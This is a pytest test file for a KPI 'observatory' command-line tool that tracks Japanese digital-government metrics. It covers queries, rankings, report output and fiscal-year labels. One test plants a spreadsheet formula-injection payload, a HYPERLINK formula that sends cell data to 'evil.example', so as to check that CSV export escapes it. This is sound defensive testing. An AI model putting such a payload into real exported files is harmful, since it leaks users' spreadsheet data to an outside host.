"""Read helpers (latest, history, ranking) and the `observatory kpi` commands end to end."""

from __future__ import annotations

import json
from datetime import date

import pytest
import yaml

from observatory import calendar
from observatory.cli import main
from observatory.config import shipped_kpi_dir
from observatory.kpis import queries
from observatory.kpis.engine import recompute
from tests.kpis.conftest import FIXTURES
from tests.kpis.test_engine import _cards


def _run(capsys, *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as info:
        main(list(args))
    out = capsys.readouterr()
    return info.value.code, out.out, out.err


def test_latest_history_and_ranking(warehouse, shipped):
    with warehouse.connect() as con:
        _cards(con)
        recompute(con, shipped, tables=["card_issuance"])
        latest = queries.latest(con, kpi_ids=["card_holding_rate"])
        history = queries.history(con, "card_holding_rate", level="municipality", entity_code="011002")
        ranking = queries.ranking(con, "card_holding_rate", "01")
        ranking_march = queries.ranking(con, "card_issuance_rate", "01", period=date(2020, 3, 1))
        prefectures = queries.snapshot(con, "card_holding_rate", "prefecture")
    row = latest.iloc[0]
    assert (row.kpi_id, row.version, row.period.date(), round(row.value, 4)) == \
        ("card_holding_rate", 1, date(2020, 4, 1), round(340 / 15, 4))
    assert row.forecast_status == "insufficient_data" and row.forecast_year == 2020
    assert list(history.version) == [1, 1] and list(history.value) == [19.0, 24.0]
    ranked = ranking[ranking["rank"].notna()]
    assert list(ranked.entity_code) == ["011002", "012025"] and list(ranked["rank"]) == [1, 2]
    assert ranking["rank"].isna().sum() == len(ranking) - 2  # the rest of Hokkaido: no value, ranked last
    assert list(ranking_march[ranking_march["rank"].notna()]["rank"]) == [1, 1]  # issued: a tie at 20 %
    assert list(prefectures.entity_code) == ["01", "13"] and list(prefectures.status)[1] == "no_data"


def test_cli_validate_prints_golden_lines_and_fails(capsys, monkeypatch):
    monkeypatch.chdir(FIXTURES)
    code, out, err = _run(capsys, "kpi", "validate", "bad/owner_unknown.yaml", "good")
    assert code == 1
    assert out.splitlines() == (FIXTURES / "bad" / "owner_unknown.expected").read_text(encoding="utf-8").splitlines()
    assert "2 KPI(s) in 2 file(s): 1 error(s)" in err
    code, out, _err = _run(capsys, "kpi", "validate", "good")
    assert code == 0 and out == ""


def test_cli_schema_is_json(capsys):
    code, out, _err = _run(capsys, "kpi", "schema")
    schema = json.loads(out)
    assert code == 0 and "KpiDefinition" in schema["$defs"]


def test_cli_compute_show_report(capsys, warehouse, shipped):
    home = str(warehouse.db_path.parent)
    with warehouse.connect() as con:
        _cards(con)
    code, out, _err = _run(capsys, "--home", home, "kpi", "compute")
    assert code == 0 and f"{len(shipped)} KPI(s)" in out  # every KPI of the shipped catalogue
    code, out, _err = _run(capsys, "--home", home, "kpi", "show", "card_holding_rate", "--level", "municipality",
                           "--entity", "011002", "--format", "json")
    shown = json.loads(out)
    assert [v["value"] for v in shown["values"]] == [19.0, 24.0]
    code, out, _err = _run(capsys, "--home", home, "kpi", "show", "card_holding_rate")
    assert code == 0 and "card_holding_rate" in out
    code, out, _err = _run(capsys, "--home", home, "kpi", "report", "--format", "json")
    report = {r["kpi_id"]: r for r in json.loads(out)}
    assert len(report) == len(shipped) and report["card_holding_rate"]["period"] == "2020-04"
    assert report["once_only_rate"]["status"] == "no_data"
    code, out, _err = _run(capsys, "--home", home, "kpi", "report")
    assert code == 0 and "card_holding_rate" in out
    judged = report["card_holding_rate"]  # the table says which target a status is judged against
    assert judged["status_year"] and f"{judged['status']} ({judged['status_year']})" in out
    code, _out, err = _run(capsys, "--home", home, "kpi", "show", "nope")
    assert code == 3 and "no KPI 'nope'" in err
    # a mistyped entity is refused (it said "no values yet" and exited 0); a real code is shown, values or not
    code, _out, err = _run(capsys, "--home", home, "kpi", "show", "card_holding_rate", "--level", "municipality",
                           "--entity", "011003")
    assert code == 3 and "not a municipality code" in err
    code, out, _err = _run(capsys, "--home", home, "kpi", "show", "card_holding_rate", "--level", "municipality",
                           "--entity", "473821")
    assert code == 0 and "473821" in out
    code, _out, err = _run(capsys, "--home", home, "kpi", "show", "card_holding_rate", "--level", "prefecture",
                           "--entity", "010006")  # a prefecture is keyed by its two digits (01), as the engine does
    assert code == 3 and "not a prefecture code" in err
    code, _out, err = _run(capsys, "--home", home, "kpi", "compute", "--period", "2020-13")
    assert code == 2 and "expected YYYY-MM" in err


@pytest.mark.parametrize(("timezone", "past"), [("Etc/GMT-14", True), ("Etc/GMT+12", False)])
def test_cli_report_judges_targets_on_the_workspace_day(capsys, warehouse, timezone: str, past: bool):
    """A target due today at UTC-12 is already past at UTC+14 (26 hours apart, so always another date): `kpi
    report` judges it on the day of the workspace's time zone (config.timezone), not on Japan's."""
    home = warehouse.db_path.parent
    due = calendar.today("Etc/GMT+12")
    year = calendar.fiscal_year_of(due)
    text = (FIXTURES / "good" / "simple.yaml").read_text(encoding="utf-8")  # targets 2023 and 2026
    text = text.replace("date: 2027-03-31", f"date: {due.isoformat()}")  # the 2026 target is due today at UTC-12
    text = text.replace("target_year_group: 2023", "target_year_group: 2026")  # the headline: the 2026 target
    (home / "kpis").mkdir()
    (home / "kpis" / "simple.yaml").write_text(text, encoding="utf-8")
    config = yaml.safe_load((home / "observatory.yaml").read_text(encoding="utf-8"))
    config.update(timezone=timezone, kpi_definitions="kpis")
    (home / "observatory.yaml").write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    with warehouse.connect() as con:
        for fy, value in ((year - 2, 60.0), (year - 1, 61.0)):
            con.execute("INSERT INTO kpi_values (kpi_id, version, level, entity_code, period, value, status, "
                        "computed_at) VALUES ('simple_registration_rate', 1, 'national', 'JP', ?, ?, 'off_track', "
                        "now())", [date(fy, 4, 1), value])
    code, out, err = _run(capsys, "--home", str(home), "kpi", "report", "--format", "json")
    assert code == 0, err
    [row] = [r for r in json.loads(out) if r["kpi_id"] == "simple_registration_rate"]
    assert row["status_year"] == 2026 and (row["status"] == "off_track") is past, row["status"]


def test_cli_show_names_a_fiscal_year_as_the_calendar_does(capsys, warehouse):
    """A fiscal-year value in JSON/CSV was '2023-04-01T00:00:00.000' (a timestamp, no label): now its first day
    and the calendar's label, FY2023, as in the table view."""
    home = str(warehouse.db_path.parent)
    with warehouse.connect() as con:
        con.execute("INSERT INTO procedure_inventory (fiscal_year, period, procedure_id, ministry_name, ministry_code, "
                    "procedure_name, cases_total, cases_online, published, run_id) VALUES "
                    "(2023, DATE '2023-04-01', 'p1', '総務省', 'MIC', 'x', 100, 80, '{}', 1)")
    code, _out, err = _run(capsys, "--home", home, "kpi", "compute", "--kpi", "inventory_online_usage_rate")
    assert code == 0, err
    code, out, _err = _run(capsys, "--home", home, "kpi", "show", "inventory_online_usage_rate", "--format", "json")
    row = json.loads(out)["values"][0]
    assert (row["period"], row["period_label"], row["value"]) == ("2023-04-01", "FY2023", 80.0)
    code, out, _err = _run(capsys, "--home", home, "kpi", "show", "inventory_online_usage_rate", "--format", "csv")
    assert "2023-04-01" in out and "FY2023" in out


def test_cli_csv_output_never_carries_a_live_formula(capsys, warehouse, shipped):
    """A KPI named =HYPERLINK(...) in a workspace's own definitions came out of `kpi report --format csv` as a live
    formula (the public kpis.csv escaped the same name): every text cell goes through the one escape, csv_safe."""
    import csv
    import io
    import shutil

    home = warehouse.db_path.parent
    own = home / "kpis"
    shutil.copytree(shipped_kpi_dir(), own)
    path = own / "my_number_card.yaml"
    text = path.read_text(encoding="utf-8")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    first_ja = yaml.safe_load(text)["kpis"][0]["name"]["ja"]
    assert f'ja: "{first_ja}"' in text
    path.write_text(text.replace(f'ja: "{first_ja}"', f"ja: '{formula}'", 1), encoding="utf-8")
    config = home / "observatory.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "\nkpi_definitions: kpis\n", encoding="utf-8")
    code, out, err = _run(capsys, "--home", str(home), "kpi", "report", "--format", "csv")
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and c != "-" and not
                                                                       c.lstrip("-").replace(".", "").isdigit())]
